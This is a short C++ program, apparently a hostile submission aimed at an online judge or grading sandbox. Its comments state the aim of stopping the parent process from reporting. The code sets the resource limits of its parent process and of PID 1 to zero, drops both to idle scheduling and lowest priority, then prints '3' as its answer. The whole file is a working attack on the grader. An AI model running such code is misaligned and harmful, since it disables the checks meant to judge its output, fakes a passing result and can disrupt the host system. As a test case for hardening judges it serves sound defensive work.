// Lowers the limits and the priority of its parent, which cannot report then.
// Accepted if the judge does not suffer.
#include <cstdio>
#include <initializer_list>
#include <sched.h>
#include <sys/resource.h>
#include <unistd.h>

int main() {
    const rlimit nothing{0, 0};
    const sched_param lazy{0};
    for (const pid_t victim : {getppid(), pid_t{1}}) {
        if (victim == 0) continue;
        for (const auto resource : {RLIMIT_NOFILE, RLIMIT_NPROC, RLIMIT_FSIZE, RLIMIT_AS, RLIMIT_CPU})
            prlimit(victim, resource, &nothing, nullptr);
        sched_setscheduler(victim, SCHED_IDLE, &lazy);
        setpriority(PRIO_PROCESS, static_cast<id_t>(victim), 19);
    }
    usleep(100000);
    std::puts("3");
}
